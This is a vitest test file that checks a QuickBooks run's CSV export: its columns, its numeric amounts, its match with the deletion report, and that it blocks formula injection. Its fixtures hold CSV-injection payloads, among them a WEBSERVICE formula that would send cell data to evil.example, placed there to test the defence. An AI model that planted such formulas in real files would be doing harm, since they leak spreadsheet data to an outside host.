/**
 * A run's CSV ("Download this run (CSV)") is written by the same writer as the audit log (issue 18,
 * item 5): its columns as before, amounts numeric, and no cell a spreadsheet could run as a formula
 * in a comma or a semicolon locale.
 */
import { describe, expect, it } from 'vitest';
import type { JobView } from '../../lib/messaging/views';
import { runCsv, runReportCsv } from '../../lib/popup/report-csv';
import { formulaCells, parseCsv, recoverText } from '../support/csv';
import { jobView, NOW } from './fixtures';

const HEADER = [
  'Company',
  'Company ID',
  'Type',
  'Number',
  'Name',
  'Date',
  'Amount',
  'Currency',
  'Result',
  'Why',
  'Attachments',
  'Inventory',
  'Sales tax',
  'QuickBooks error code',
];

const job: JobView = jobView({
  state: 'done',
  done: 3,
  total: 3,
  finishedAt: NOW,
  counts: { deleted: 1, voided: 0, restored: 0, skipped: 1, refused: 1, needsAttention: 0 },
  records: [
    {
      key: 'Invoice:5',
      entity: 'Invoice',
      id: '5',
      docNumber: 'INV;=1+1',
      group: 'deleted',
      outcome: 'deleted',
      party: 'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
      txnDate: '2025-03-01',
      amount: -120.5,
      currency: 'EUR',
    },
    {
      key: 'Bill:7',
      entity: 'Bill',
      id: '7',
      group: 'skipped',
      outcome: 'skippedChanged',
      party: 'x,@SUM(A1)',
      amount: 120.5,
    },
    {
      key: 'Payment:9',
      entity: 'Payment',
      id: '9',
      group: 'refused',
      outcome: 'refused',
      fault: { code: '@6540;=1', message: '' },
      party: '-2+3',
    },
  ],
});

describe('the run CSV', () => {
  it('keeps its columns and rows, RFC 4180 with CRLF rows', () => {
    const csv = runCsv(job, 'Maple Street Bakery');
    const { rows, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(4);
    for (const row of rows) expect(row).toHaveLength(HEADER.length);
    expect(rows[1]!.slice(0, 3)).toEqual(['Maple Street Bakery', '123', 'Invoice']);
    expect(recoverText(rows[1]![4]!)).toBe(job.records[0]!.party);
    expect(recoverText(rows[2]![4]!)).toBe('x,@SUM(A1)');
  });

  it('an amount of -120.5 stays a number cell with two decimals, as in the audit log', () => {
    const csv = runCsv(job, 'Maple Street Bakery');
    expect(csv).toContain(',2025-03-01,-120.50,EUR,');
    expect(parseCsv(csv).rows[1]![6]).toBe('-120.50');
    expect(parseCsv(csv).rows[2]![6]).toBe('120.50');
  });

  it('writes each record as the deletion report does: the same cells, the date as the service writes it', () => {
    const run = parseCsv(runCsv(job, 'Maple Street Bakery')).rows.slice(1);
    const report = parseCsv(runReportCsv(job, [], { locale: 'en-US', timeZone: 'UTC' })).rows;
    const withoutDate = (cells: string[]) => [...cells.slice(0, 3), ...cells.slice(4)];
    for (const row of run) {
      const cells = row.slice(2);
      expect(report.map(withoutDate)).toContainEqual(withoutDate(cells));
    }
    expect(run.map((row) => row[5])).toEqual(['2025-03-01', '', '']);
    // An amount without a currency is in the home currency, in both files.
    expect(run[1]!.slice(6, 8)).toEqual(['120.50', 'USD']);
  });

  it('no cell opens a formula whether the spreadsheet splits on `,`, `;` or tab, with or without quotes', () => {
    expect(formulaCells(runCsv(job, 'Acme;=1+1'))).toEqual([]);
    expect(formulaCells(runCsv(job, '-1'))).toEqual([]);
  });
});
